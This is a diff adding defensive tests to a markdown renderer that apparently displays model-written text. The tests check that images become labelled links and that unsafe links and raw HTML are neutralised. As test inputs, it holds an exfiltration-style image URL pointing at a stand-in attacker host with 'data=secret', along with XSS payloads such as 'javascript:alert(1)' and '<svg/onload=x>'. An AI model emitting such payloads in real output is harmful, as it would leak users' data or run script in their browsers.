@@ -9,7 +9,7 @@ test("a table as models write it is one, with what stands in its cells", () => {
     "Here:\n\n| Fruit | Price |\n|:------|------:|\n| **Pear** | 3 € |\n| `a b` | [x](https://example.com) |\n| Plum |\n\nEnd.",
   );
   expect(shown).toContain("<thead><tr><th");
-  expect(shown.replace(/ style="[^"]*"| target="_blank"| rel="noreferrer"/g, "")).toContain(
+  expect(shown.replace(/ style="[^"]*"| target="_blank"| rel="noopener noreferrer nofollow"/g, "")).toContain(
     "<tbody><tr><td><strong>Pear</strong></td><td>3 €</td></tr><tr><td><code>a b</code></td>" +
       '<td><a href="https://example.com">x</a></td></tr><tr><td>Plum</td><td></td></tr></tbody>',
   );
@@ -32,4 +32,34 @@ test("what is no table stays as it is", () => {
     expect(html(text)).not.toContain("<table>");
   expect(html("```\n| a | b |\n|---|---|\n```")).not.toContain("<table>");
   expect(html("Title\n---")).toContain("Title</h4>");
+});
+
+test("no image is loaded: a link with its words and its host stands in its place", () => {
+  const shown = html(
+    "![a loom](http://evil.example/?data=secret) and ![](//evil.example/x) and ![by name][i]\n\n[i]: https://other.example:8443/p.png",
+  );
+  expect(shown).not.toContain("<img");
+  expect(shown).toMatch(/<a href="http:\/\/evil.example\/\?data=secret"[^>]*>Image: a loom \(evil.example\)<\/a>/);
+  expect(shown).toMatch(/<a href="\/\/evil.example\/x"[^>]*>Image \(evil.example\)<\/a>/);
+  expect(shown).toContain(">Image: by name (other.example:8443)</a>");
+  for (const source of ["/api/v1/http/1", "api/v1/http/1", "data:image/png;base64,AAAA", "blob:http://x/1", "/%5C", "javascript:alert(1)"])
+    expect(html(`![alt](<${source}>)`)).toBe('<div class="prose"><p>Image: alt</p></div>');
+  // A link inside a link is none.
+  expect(html("[![badge](https://a.example/b.svg) more](https://b.example)")).toMatch(
+    /<p><a href="https:\/\/b.example"[^>]*>Image: badge \(a.example\) more<\/a><\/p>/,
+  );
+});
+
+test("links tell the other side nothing, and what would run is neither a link nor HTML", () => {
+  expect(html("[x](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer nofollow"');
+  for (const source of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "blob:http://x/1"])
+    expect(html(`[x](<${source}>)`)).toContain('href=""');
+  for (const raw of [
+    "<script>1</script>",
+    '<img src="http://evil.example/">',
+    "<iframe></iframe>",
+    '<a style="position:fixed">x</a>',
+    "<svg/onload=x>",
+  ])
+    expect(html(`a ${raw}\n\n${raw}`)).not.toMatch(/<(script|img|iframe|svg|a )/);
 });
